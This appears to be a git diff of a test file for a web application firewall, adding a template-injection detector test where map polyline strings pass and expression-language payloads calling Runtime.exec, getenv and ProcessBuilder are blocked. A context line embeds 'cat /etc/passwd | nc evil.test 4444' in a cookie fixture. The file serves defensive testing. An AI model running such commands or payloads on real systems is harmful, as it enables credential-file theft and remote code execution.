@@ -6,6 +6,7 @@ import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
 import { detectCrlf } from '../../../src/guard/decide/waf/detect/crlf/crlf.ts';
 import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
 import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
+import { detectTemplate } from '../../../src/guard/decide/waf/detect/template/template.ts';
 import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
 import { blockedBy } from '../../corpora/report/default-set.ts';
 import { blocks, passes } from './judged.ts';
@@ -150,4 +151,31 @@ test('the signature of a token is bytes of chance, and no words behind those of 
     [.../^(.{7})(.{13})(.*)$/.exec(part('{"a":1};cat /etc/passwd | nc evil.test 4444'))!.slice(1)],
   ])
     assert.notEqual(blockedBy(cookie(...parts)), '', parts.join('.'));
+});
+
+test('a route that is drawn in letters and marks names no class', () => {
+  passes(detectTemplate, [
+    '_f~bElbui@EoDm@gG^xJqCbJzAw@uJxDbNzBgAHpCbGJrBsDyCnNiDgAcKm@{@bI_CuMpUnH|GwNz@XnDp@kCvHnFo@eHEyIbJyKnY}GjYzJdGyE}NkA~DoG',
+    '{lskDnc~{RtKi@zBz@sAbDaLqD_VaL',
+    'jll_Cdu`eMnmA|u@or@oUgp@xd@gPda@mIjk@{Ki`@~m@zO{cAwf@ic@wa@sY_@}C_W{o@jJb^cRyK~a@cNimB}bAsVfm@|kArxAga@`iAb{@oQiZop@|v@h',
+  ]);
+  // Steps of some metres from a place, as maps write them (five bits a character, from `?` on).
+  const number = (n: number): string => {
+    let rest = n < 0 ? ~(n << 1) : n << 1;
+    let text = '';
+    for (; rest >= 32; rest >>= 5) text += String.fromCharCode(95 + (rest & 31));
+    return text + String.fromCharCode(63 + rest);
+  };
+  for (let seed = 0; seed < 200; seed++) {
+    const bytes = createHash('shake256', { outputLength: 600 }).update(`${seed}`).digest();
+    const steps = [...bytes].map((byte) => number(byte - 128)).join('');
+    passes(detectTemplate, [number(5_000_000 + seed) + number(1_300_000 - seed) + steps]);
+  }
+  blocks(detectTemplate, [
+    '%{@java.lang.Runtime@getRuntime().exec("id")}',
+    '@{@Runtime@getRuntime()}',
+    '~{@System@getenv("PATH")}',
+    '${@ProcessBuilder@x}',
+    '*{(@org.example.Tool@run)}',
+  ]);
 });
